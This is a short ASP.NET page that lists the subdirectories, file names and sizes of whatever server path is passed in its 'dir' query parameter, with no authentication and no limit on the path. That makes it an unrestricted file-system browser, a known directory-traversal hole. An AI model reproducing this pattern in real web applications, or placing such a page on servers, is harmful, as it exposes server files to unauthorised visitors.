<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        string root = Request.QueryString["dir"] ?? Server.MapPath(".");
        var here = new DirectoryInfo(root);
        foreach (var sub in here.GetDirectories())
        {
            Response.Write("<a href='?dir=" + Server.UrlEncode(sub.FullName) + "'>" + Server.HtmlEncode(sub.Name) + "/</a><br/>");
        }

        foreach (var file in here.GetFiles())
        {
            Response.Write(Server.HtmlEncode(file.Name) + " " + file.Length + "<br/>");
        }
    }
</script>
